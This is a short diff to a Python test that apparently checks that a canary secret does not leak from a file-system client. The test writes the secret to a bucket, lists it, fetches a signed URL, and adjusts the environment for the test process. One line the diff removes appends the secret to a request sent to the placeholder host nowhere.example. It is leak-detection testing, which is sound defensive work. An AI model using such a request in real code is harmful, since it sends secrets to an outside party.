@@ -55,7 +55,6 @@ fs = get_file_system()
 attempt(lambda: fs.pipe_file("my-bucket/canary.txt", secret.encode()))
 attempt(lambda: fs.ls("my-bucket"))
 attempt(lambda: requests.get(fs.sign("my-bucket/canary.txt")))
-attempt(lambda: requests.get("https://nowhere.example/?signature=" + secret))
 "\\n".join(said)
 '''  # fmt: skip
 
@@ -77,7 +76,7 @@ def test_no_canary_is_found_anywhere(
     (tmp_path / "temporary").mkdir()
     variables = {
         "PATH": os.environ["PATH"],
-        "HOME": str(tmp_path / "home"),
+        "HOME": str(tmp_path),
         "TMPDIR": str(tmp_path / "temporary"),
         **{name: text for name, text in running.environment.items() if "PROXY" not in name.upper()},
         **{name: text for name, text in CANARIES.items() if name != "proxy"},
